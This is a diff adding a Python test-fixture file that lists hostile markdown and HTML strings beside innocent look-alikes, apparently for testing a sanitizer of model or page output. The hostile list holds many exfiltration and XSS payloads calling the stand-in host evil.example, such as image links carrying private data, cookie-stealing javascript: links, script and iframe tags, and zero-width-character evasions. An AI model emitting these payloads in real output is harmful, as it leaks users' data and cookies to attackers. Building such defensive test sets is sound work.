@@ -1,0 +1,102 @@
+"""What a hostile model or page writes to make a viewer fetch or run something, and innocent texts that look odd."""
+
+from __future__ import annotations
+
+EVIL = "https://evil.example/p?d=PRIVATE+WORDS"
+HOST = "evil.example"
+
+HOSTILE = (
+    f"![x]({EVIL})",
+    f"![x]( <{EVIL}> 'title' )",
+    f"![x](\n{EVIL}\n)",
+    f"![x][i]\n\n[i]: {EVIL}",
+    f"![i]\n\n[i]: <{EVIL}> 'title'",
+    f"[![x]({EVIL})]({EVIL})",
+    f"![a ![b]({EVIL}) c]({EVIL})",
+    f"[words]({EVIL})",
+    f"[words][w]\n\n[w]: {EVIL}",
+    "[words](//evil.example/p?d=PRIVATE)",
+    "[words](javascript:fetch('//evil.example/'+document.cookie))",
+    "[words](java&Tab;script:alert(1))",
+    "[words](data:text/html;base64,PHNjcmlwdD4=)",
+    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+    f"<{EVIL}>",
+    f"See {EVIL} now.",
+    "See www.evil.example/?d=PRIVATE now.",
+    "See ftp://evil.example/PRIVATE now.",
+    f"<img src='{EVIL}'>",
+    f"<IMG\nSRC={EVIL}\nonerror=alert(1)>",
+    f"<img src=x srcset='{EVIL} 2x'>",
+    f"<picture><source srcset='{EVIL}'><img src='{EVIL}'></picture>",
+    f"<video src='{EVIL}' poster='{EVIL}' autoplay></video>",
+    f"<audio src='{EVIL}' autoplay></audio>",
+    f"<iframe src='{EVIL}'></iframe>",
+    f"<object data='{EVIL}'></object><embed src='{EVIL}'>",
+    f"<svg><image href='{EVIL}'/></svg>",
+    "<svg onload=alert(1)>",
+    f"<link rel=stylesheet href='{EVIL}'>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<base href='{EVIL}'>",
+    f"<style>@import url({EVIL});</style>",
+    f"<script>fetch('{EVIL}')</script>",
+    f"<div style='background:url({EVIL})'>words</div>",
+    f"<table background='{EVIL}'><tr><td>words</table>",
+    f"<input type=image src='{EVIL}'>",
+    f"<a href='{EVIL}' ping='{EVIL}'>words</a>",
+    f"<form action='{EVIL}'><button formaction='{EVIL}'>go</button></form>",
+    "<body onload=alert(1)>",
+    f"<!--><img src='{EVIL}'>-->",
+    f"<?x ><img src='{EVIL}'>",
+    f"a ` b\nc `![x]({EVIL})` d",
+    f"- ```\n![x]({EVIL})",
+    f"- ```\n  code\n  ```\n![x]({EVIL})",
+    f"1. a\n   ```\n  ```\n   ![x]({EVIL})\n",
+    f"- x\npara\n\n    ![x]({EVIL})\n\n  ```\n![y]({EVIL})\n",
+    f"| a | b |\n|---|---|\n| `c | ![x]({EVIL})` | d |",
+    f"x ` y \n`![z]({EVIL})` w",
+    f"\\`![x]({EVIL})\\`",
+    f"\\\\![x]({EVIL})",
+    f"\\![x]({EVIL})",
+    f"!\u200b[x]({EVIL})",
+    f"![x]\u200b({EVIL})",
+    f"<\u200bimg src='{EVIL}'>",
+    f"> ![x]({EVIL})\n> [q]: {EVIL}",
+    f"# ![x]({EVIL})",
+    f"Note.[^1]\n\n[^1]: ![x]({EVIL})",
+    f"![[{EVIL}]]",
+    f"```mermaid\nflowchart LR\n  A@{{ img: \"{EVIL}\" }}\n```",
+    f"~~~ {{.mermaid}}\nclick A href \"{EVIL}\"\n~~~",
+    f"- ```html\n  <img src='{EVIL}'>\n  ```",
+    f"<img src='{EVIL}'>```\n![x]({EVIL})\n```\n![y]({EVIL})",
+    f"[```]({EVIL})\n![x]({EVIL})\n```\n![y]({EVIL})",
+    f"{{\"title\": \"\\u0021[x]({EVIL})\"}}",
+    f"$\\includegraphics{{{EVIL}}}$ and \\href{{{EVIL}}}{{words}}",
+    f"\x1b]8;;{EVIL}\x1b\\words\x1b]8;;\x1b\\ \x1b[2J\x9b2J",
+    f"&lt;b&gt;![x]({EVIL})<b>",
+)  # fmt: skip
+
+INNOCENT = (
+    # Comparisons and generics
+    "Is a < b and b > c?", "1 < 2 and 3 > 2", "x<y", "if (a<b && c>d) return;", "List<int> and Map<str, int>",
+    "std::vector<std::string> v", "List<object> of Vec<Box<dyn Fn()>>", "Option<&'a str>", "a <- b -> c <=> d", "x <= y >= z",
+    "<T extends Base>", "template<typename T>", "i << 2 | j >> 3", "A<B", "5 <a5 is odd",
+    # Brackets, calls, indexes
+    "x[0](y)", "f[i](x, y)", "a[i] = b[j]", "call(x)[0]", "[sic] he said", "an [optional] word", "[a, b) is half open",
+    "array[1:3]", "d['key']", "[ ] open and [x] done", "See [the annex] (page 3).", "x[n](k) + x[m](k)", "matrix[0][1]",
+    # Maths and LaTeX
+    "$x^2 + y^2 = z^2$", "$$\\int_0^1 f(x)\\,dx$$", "\\(a_1 < a_2\\)", "\\[E = mc^2\\]", "$\\frac{a}{b} \\le 1$",
+    "$P(A|B) = \\frac{P(B|A)P(A)}{P(B)}$", "|x| < 1", "5! = 120", "n! and m!", "2 * 3 * 4 = 24", "a_b_c and x*y",
+    # Punctuation
+    "AT&T and R&D", "Fish &amp; chips &copy; 2024", "\"Quoted\" and 'so'", "50% & more", "#hashtag and C#", "C++ and F#",
+    "user@mail.example", "~5 km", "a/b/c", "path\\to\\file", "50 €", "Wow![sic] indeed", "100 %", "and/or", "8:30–9:15",
+    # Code
+    "Use `a < b` here.", "Use `<img src=x>` here.", "Use `![x](y)` and ``a ` b``.", "```py\nx = a[0](b)\nif a < b: pass\n```",
+    "```\n<div onclick=\"x\">\n```", "1. Install:\n\n   ```sh\n   echo \"<a>\" && cat <<EOF\n   ```\n2. Run.",
+    "- item\n  ```js\n  f = (a) => a[0](b) < c\n  ```\n- next", "    indented <code>", "`x[0](y)` and `&amp;`",
+    # Tables
+    "| a | b |\n|---|---|\n| 1 < 2 | x[0] |", "| `a` | b\\|c |\n|---|---|\n| d | e |",
+    # Scripts
+    "灯塔建于1871年\uff0c高度<50米。", "灯台は1871年に建てられた\uff3b注\uff3d。", "Маяк построен в 1871 году, высота < 50 м.",
+    "المنارة بُنيت عام 1871 (ارتفاعها < 50 م).", "המגדלור נבנה ב־1871.", "प्रकाशस्तंभ 1871 में बना।", "\u039f φάρος χτίστηκε το 1871.",
+    "등대는 1871년에 세워졌다.", "ประภาคารสร้างในปี 1871", "Schöne Grüße, naïve café — “ja”",
+)  # fmt: skip
